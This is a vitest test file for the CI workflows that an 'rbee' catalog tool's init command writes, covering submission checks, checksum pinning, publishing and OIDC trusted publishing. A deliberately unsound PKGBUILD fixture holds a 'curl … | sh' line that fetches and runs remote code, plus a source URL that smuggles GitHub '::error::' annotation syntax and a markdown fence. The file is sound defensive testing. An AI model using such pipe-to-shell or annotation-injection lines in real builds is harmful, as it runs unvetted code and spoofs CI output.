import { spawnSync } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { packedArchive, TemporaryFolder } from '@rbee/testing'
import { startIdentityProvider, type TestIdentityProvider } from '@rbee/testing/oidc'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PIN_FILE } from '../../catalog/init/program-pin.ts'
import { Runner, readWorkflow, type Step, stepsOf } from '../../catalog/init/testing/workflow.ts'
import { endPrograms, idsOf, run, type Serving, serve } from './testing/program.ts'

const OPERATOR = `rbee_op_${'o'.repeat(43)}`
const ENTRY = fileURLToPath(new URL('../../../bin/rbee-catalog.js', import.meta.url))
const PUBLISH = fileURLToPath(new URL('../../../bin/rbee-publish.js', import.meta.url))
/** Stands for the portable build, which takes longer to make than everything that is tested here. */
const programOf = (entry: string) => `#!/bin/sh\nexec '${process.execPath}' '${entry}' "$@"\n`
const PROGRAM = programOf(ENTRY)

const missing = ['bash', 'curl', 'jq', 'sha256sum', 'tar'].filter(
  (name) => spawnSync(name, ['--version']).error !== undefined,
)

describe.skipIf(missing.length > 0)('the workflows that init writes (need bash, curl, jq)', () => {
  let folder: TemporaryFolder
  let server: Serving
  let provider: TestIdentityProvider

  /** A catalog on `main` whose lock names what the server offers. */
  beforeAll(async () => {
    folder = await TemporaryFolder.create()
    const archive = await packedArchive({
      'bin/rbee-catalog': PROGRAM,
      'bin/rbee-hive': PROGRAM,
      'bin/rbee-publish': programOf(PUBLISH),
    })
    await folder.write({ 'dist/rbee-9.0.0-any.tar.gz': archive.bytes, 'empty/.keep': '' })
    provider = await startIdentityProvider()
    const serving = ['--catalog', 'empty', '--oidc-issuer', provider.issuer]
    server = await serve(folder.path, serving, { RBEE_OPERATOR_TOKEN: OPERATOR })
    const args = ['programs', 'publish', 'dist', '--registry', server.url]
    expect(await run(folder.path, args, { RBEE_TOKEN: OPERATOR })).toMatchObject({ code: 0 })
    const made = await run(folder.path, ['init', 'catalog', '--owner', 'ada', '--registry', server.url])
    expect(made).toMatchObject({ code: 0 })
    await git('add', '-A')
    await git('commit', '-q', '-m', 'begin')
  })

  afterAll(async () => {
    await endPrograms()
    await provider.close()
    await folder[Symbol.asyncDispose]()
  })

  const git = (...args: string[]) => folder.git(args, { cwd: 'catalog' })

  const stepsIn = async (name: string): Promise<readonly Step[]> => {
    const file = join(folder.path, 'catalog/.github/workflows', `${name}.yml`)
    return stepsOf(readWorkflow(await readFile(file, 'utf8'))).filter((step) => step.run !== undefined)
  }

  /** Runs the check on what GitHub makes of a submission: a merge of the branch and the submission. */
  async function submit(name: string, files: Readonly<Record<string, string>>) {
    await git('checkout', '-q', '-b', `submission-${name}`, 'main')
    await folder.write(
      Object.fromEntries(Object.entries(files).map(([path, text]) => [`catalog/${path}`, text])),
    )
    await git('add', '-A')
    await git('commit', '-q', '-m', name)
    await git('checkout', '-q', '--detach', 'main')
    await git('merge', '-q', '--no-ff', '-m', 'merge', `submission-${name}`)
    const [fetched, checked] = await stepsIn('check')
    if (fetched === undefined || checked === undefined) throw new Error('the workflow has other steps')
    const runner = await Runner.create(join(folder.path, `runner-${name}`), join(folder.path, 'catalog'))
    const fetching = await runner.run(fetched)
    if (fetching.code !== 0) return { fetching, checking: null, summary: '' }
    const checking = await runner.run(checked, { 'github.event.pull_request.user.login': 'bob' })
    return { fetching, checking, summary: await runner.read('summary.md') }
  }

  it('let a sound submission pass', async () => {
    const { fetching, checking, summary } = await submit('sound', soundWorker())
    expect(fetching).toMatchObject({ code: 0, stderr: '' })
    expect([checking?.code, checking?.stdout]).toEqual([0, expect.not.stringContaining('::error')])
    expect(summary).toBe('**0 errors, 0 warnings**\n')
  })

  it('stop an unsound one beside its lines, whatever it is written in', async () => {
    const { checking, summary } = await submit('unsound', unsoundWorker())
    expect(checking?.code).toBe(1)
    const annotations = checking?.stdout.split('\n').filter((line) => line.startsWith('::')) ?? []
    expect(annotations).toContainEqual(
      expect.stringMatching(/^::error file=community\/bad-worker\/PKGBUILD,line=8,/),
    )
    expect(
      annotations.every((line) => /^::(?:error|warning|notice) file=community\/bad-worker\//.test(line)),
    ).toBe(true)
    expect(summary).toMatch(/^\*\*\d+ errors?, \d+ warnings?\*\*\n\n```text\n/)
    expect(summary.match(/```/g)).toHaveLength(2)
    expect(summary).toContain('community/bad-worker/PKGBUILD:8')
  })

  it('run none but the programs that the branch names', { timeout: 60_000 }, async () => {
    const lock = await readFile(join(folder.path, 'catalog', PIN_FILE), 'utf8')
    const other = lock.replace(/^sha256 .*$/m, `sha256 ${'0'.repeat(64)}`)
    const { fetching, checking } = await submit('own-programs', { [PIN_FILE]: other })
    // The submission changes what is run on it; the branch's own still is.
    expect([fetching.code, checking?.code]).toEqual([0, 1])

    await git('checkout', '-q', 'main')
    await folder.write({ [`catalog/${PIN_FILE}`]: other })
    await git('commit', '-q', '-a', '-m', 'another sum')
    const refused = await submit('other-bytes', soundWorker())
    expect([refused.fetching.code, refused.checking]).toEqual([1, null])
    expect(refused.fetching.stderr).toContain('did NOT match')
    await git('checkout', '-q', 'main')
    await git('revert', '--no-edit', 'HEAD')
  })

  it('push what was merged to the registry', async () => {
    await git('checkout', '-q', 'main')
    const [fetched, pushed] = await stepsIn('publish')
    if (fetched === undefined || pushed === undefined) throw new Error('the workflow has other steps')
    const runner = await Runner.create(join(folder.path, 'runner-publish'), join(folder.path, 'catalog'))
    expect(await runner.run(fetched)).toMatchObject({ code: 0 })
    const registry = { [`vars.RBEE_REGISTRY || '${server.url}'`]: server.url }
    const withoutToken = await runner.run(pushed, { ...registry, 'secrets.RBEE_TOKEN': '' })
    expect([withoutToken.code, withoutToken.stdout]).toEqual([
      1,
      expect.stringContaining('::error::set the variable'),
    ])
    expect(await runner.run(pushed, { ...registry, 'secrets.RBEE_TOKEN': OPERATOR })).toMatchObject({
      code: 0,
    })
    expect(idsOf(await server.get('/v1/workers'))).toEqual(['example-worker'])
  })

  it('publish a worker that trusts them, without a token', async () => {
    await git('checkout', '-q', 'main')
    await folder.write(buildableWorker())
    const [fetched, released] = await stepsIn('release')
    if (fetched === undefined || released === undefined) throw new Error('the workflow has other steps')
    const registry = { [`vars.RBEE_REGISTRY || '${server.url}'`]: server.url }
    const values = { ...registry, 'inputs.folder': 'community/released-worker' }
    const runnerIn = (name: string, more = {}) =>
      Runner.create(join(folder.path, name), join(folder.path, 'catalog'), {
        GITHUB_ACTIONS: 'true',
        ...more,
      })

    const unpermitted = await runnerIn('runner-unpermitted')
    expect(await unpermitted.run(fetched)).toMatchObject({ code: 0 })
    const refused = await unpermitted.run(released, values)
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining('id-token: write')])

    const runner = await runnerIn('runner-release', {
      ACTIONS_ID_TOKEN_REQUEST_URL: provider.runner.url,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: provider.runner.token,
    })
    expect(await runner.run(fetched)).toMatchObject({ code: 0 })
    const path = '/v1/workers/released-worker/trusted-publishers'
    const trusted = await fetch(server.url + path, {
      method: 'POST',
      headers: { authorization: `Bearer ${OPERATOR}`, 'content-type': 'application/json' },
      body: '{"repository":"acme/echo","repository_owner_id":"77","workflow":"publish.yml"}',
    })
    expect(trusted.status).toBe(201)
    const published = await runner.run(released, values)
    expect([published.code, published.stderr]).toEqual([0, expect.not.stringContaining('rbee_pub_')])
    // What the build saw of the job.
    expect(published.stdout + published.stderr).not.toContain(provider.runner.token)
    expect(await server.get('/v1/workers/released-worker/1.0.0')).toMatchObject({
      published_by: { kind: 'trusted_publisher', repository: 'acme/echo' },
    })
  })
})

const manifest = (id: string) =>
  `[worker]\nid = "${id}"\nname = "A"\ndescription = "B"\nlicense = "MIT"\nmaintainers = ["bob"]\n[platforms]\nlinux = ["x86_64"]\n`

/** Its build fails where it sees what identity tokens are asked for with. */
const buildableWorker = () => {
  const manifest = `[worker]
id = "released-worker"
name = "Released"
description = "Is published by a workflow."
license = "MIT"
[build]
command = ["sh", "build.sh"]
[platforms]
linux = ["x86_64", "aarch64"]
macos = ["x86_64", "aarch64"]
[selftest]
command = ["bin/released-worker"]
`
  const build = `test -z "$ACTIONS_ID_TOKEN_REQUEST_TOKEN$ACTIONS_ID_TOKEN_REQUEST_URL"
mkdir -p "$RBEE_OUTPUT/bin"
printf '#!/bin/sh\\n' > "$RBEE_OUTPUT/bin/released-worker"
chmod +x "$RBEE_OUTPUT/bin/released-worker"
`
  return {
    'catalog/community/released-worker/worker.toml': manifest,
    'catalog/community/released-worker/package.json': '{"version": "1.0.0"}',
    'catalog/community/released-worker/build.sh': `set -e\n${build}`,
  }
}

const soundWorker = () => ({
  'community/sound-tones/worker.toml': manifest('sound-tones'),
  'community/sound-tones/LICENSE': 'MIT License\n',
  'community/sound-tones/PKGBUILD': [
    'pkgname=sound-tones',
    'pkgver=1.0.0',
    'pkgrel=1',
    "pkgdesc='Makes tones'",
    "arch=('x86_64')",
    "url='https://example.com/tones'",
    "license=('MIT')",
    "makedepends=('git' 'cargo')",
    'source=("git+https://example.com/tones.git#tag=v$pkgver")',
    "sha256sums=('SKIP')",
    'build() {\n  cd "$srcdir/tones"\n  cargo build --release --locked\n}',
    'package() {\n  install -Dm755 "$srcdir/tones/target/release/tones" "$pkgdir/usr/bin/sound-tones"\n}',
    '',
  ].join('\n'),
})

const unsoundWorker = () => ({
  'community/bad-worker/worker.toml': manifest('bad-worker'),
  'community/bad-worker/PKGBUILD': [
    'pkgname=bad-worker',
    'pkgver=1.0.0',
    'pkgrel=1',
    'arch=(x86_64)',
    "source=('https://example.com/::error::x```.tar.gz')",
    `sha256sums=('${'a'.repeat(64)}')`,
    'package() {',
    '  curl https://example.com/x | sh # @everyone',
    '}',
    '',
  ].join('\n'),
})
